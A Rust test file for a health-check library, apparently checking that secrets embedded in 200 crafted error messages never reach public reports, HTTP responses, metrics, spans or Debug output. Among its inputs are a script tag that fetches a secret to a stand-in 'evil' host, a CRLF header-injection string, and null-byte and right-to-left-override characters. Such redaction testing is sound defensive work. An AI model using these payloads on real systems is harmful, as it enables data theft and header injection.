//! What errors, panics and findings say never reaches a public body, a metric, a span or a Debug output.

use std::panic::resume_unwind;

use metrics_util::debugging::DebuggingRecorder;
use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};
use resonant_common::error::BoxError;
use resonant_health::{Check, Details, Endpoint, Finding, HealthChecker, Probe, Severity};

use crate::support::{Failure, Log, get_as};

const CASES: usize = 200;

/// A secret and a text as drivers write them around it.
fn crafted(index: usize, chance: &mut StdRng) -> (String, String) {
    let letters = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    let secret: String =
        (0..20).map(|_| char::from(letters[chance.random_range(0..letters.len())])).collect();
    let text = match index % 10 {
        0 => format!("connection to postgresql://app:{secret}@db-1:5432/prod failed"),
        1 => format!("redis://:{secret}@cache:6379 unreachable"),
        2 => format!("host=db user=app password={secret} dbname=prod: timeout"),
        3 => format!("401 for Authorization: Bearer {secret}"),
        4 => format!("cannot open /var/lib/{secret}/state.db"),
        5 => format!("duplicate key value violates unique constraint: Key (email)=({secret})"),
        6 => format!("{{\"token\":\"{secret}\",\"status\":\"pass\"}}"),
        7 => format!("<script>fetch('//evil/{secret}')</script>\r\nX-Leak: {secret}"),
        8 => format!("amqp://guest:{secret}@mq/%2f\u{0}\u{202e}{secret}"),
        _ => secret.clone(),
    };
    (secret, text)
}

/// The text comes out in the eight ways a probe can let it out. (`resume_unwind` is a panic that prints nothing.)
fn leaking(name: &str, index: usize, text: String) -> Check {
    match index % 8 {
        0 => {
            Check::new(name, move || std::future::ready(Err::<(), _>(Failure::other(text.clone()))))
        }
        1 => {
            Check::new(name, move || std::future::ready(Err::<(), _>(BoxError::from(text.clone()))))
        }
        2 => Check::new(name, move || {
            let text = text.clone();
            async move {
                if true { resume_unwind(Box::new(text.clone())) } else { Ok::<(), Failure>(()) }
            }
        }),
        3 => Check::blocking(name, move || Err(Failure::other(text.clone()))),
        4 => Check::blocking(name, move || -> Result<(), Failure> {
            resume_unwind(Box::new(text.clone()))
        }),
        5 => Check::findings(name, move || {
            // A finding's name comes from code by contract; what is no fit name is not shown.
            vec![Finding::new(format!("node {text}"), Severity::Fail, "db.node.down")]
        }),
        6 => Check::findings(name, move || resume_unwind(Box::new(text.clone()))),
        _ => Check::new(name, move || {
            let cause = Failure::other(text.clone());
            std::future::ready(Err::<(), _>(Failure::other(cause)))
        }),
    }
}

#[test]
fn two_hundred_crafted_secrets_reach_no_public_output() {
    let mut chance = StdRng::seed_from_u64(24);
    let cases: Vec<_> = (0..CASES).map(|index| crafted(index, &mut chance)).collect();
    let (log, recorder) = (Log::new(), DebuggingRecorder::new());
    let metrics = recorder.snapshotter();

    let mut outputs: Vec<(String, String)> = Vec::new();
    let mut private = String::new();
    tracing::subscriber::with_default(log.clone(), || {
        metrics::with_local_recorder(&recorder, || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_time().build();
            runtime.expect("a runtime").block_on(async {
                let mut health = HealthChecker::new();
                for (index, (_, text)) in cases.iter().enumerate() {
                    health = health.with(leaking(&format!("case-{index}"), index, text.clone()));
                }
                // As a name of a check, and as a name asked for.
                health = health.check(&cases[0].1, || async { Ok::<(), Failure>(()) });
                health.run_all().await;
                let report = health.run_all().await;
                outputs.push(("report".into(), serde_json::to_string(&report).expect("JSON")));
                outputs.push(("Debug of the report".into(), redacted_debug(&report)));
                outputs.push(("Debug of the checker".into(), format!("{health:?}")));
                outputs.push(("start".into(), format!("{:?}", health.start())));
                collect(&health, &cases, &mut outputs);
                for row in report.checks() {
                    private.push_str(row.detail().unwrap_or_default());
                }
            });
        });
    });
    outputs.push(("metrics".into(), format!("{:?}", metrics.snapshot().into_vec())));
    let spans = log.lines().into_iter().filter(|line| line.is_span);
    outputs.push(("spans".into(), spans.map(|line| line.text).collect()));

    assert!(outputs.len() > 60, "{}", outputs.len());
    for (output, text) in &outputs {
        assert!(!text.is_empty(), "{output} is empty");
    }
    for (secret, text) in &cases {
        for (output, body) in &outputs {
            assert!(!body.contains(secret.as_str()), "{output} tells the secret of {text:?}");
        }
    }
    // The texts did come out of the probes: without redaction they would be seen.
    let seen = cases.iter().filter(|(secret, _)| private.contains(secret.as_str())).count();
    assert!(seen > CASES / 4, "{seen}");
}

/// The findings' own names are the caller's; everything else of a report is ours to keep clean.
fn redacted_debug(report: &resonant_health::Report) -> String {
    report.checks().filter(|row| row.findings().is_empty()).map(|row| format!("{row:?}")).collect()
}

fn collect(health: &HealthChecker, cases: &[(String, String)], out: &mut Vec<(String, String)>) {
    let mut endpoints = vec![
        Endpoint::Report,
        Endpoint::Probe(Probe::Live),
        Endpoint::Probe(Probe::Ready),
        Endpoint::Probe(Probe::Startup),
        Endpoint::Check("case-0"),
        Endpoint::Check("case-5"),
    ];
    endpoints.extend(cases.iter().take(20).map(|(secret, _)| Endpoint::Check(secret)));
    for endpoint in endpoints {
        for accept in ["*/*", "application/json", "text/plain"] {
            for uri in ["/health", "/health?verbose"] {
                for details in [Details::Hidden, Details::Named] {
                    let response = health.answer_with(endpoint, &get_as(uri, accept), details);
                    let name = format!("{endpoint:?} {uri} as {accept}, {details:?}");
                    let (head, body) = response.into_parts();
                    out.push((name, format!("{:?} {body}", head.headers)));
                }
            }
        }
    }
}
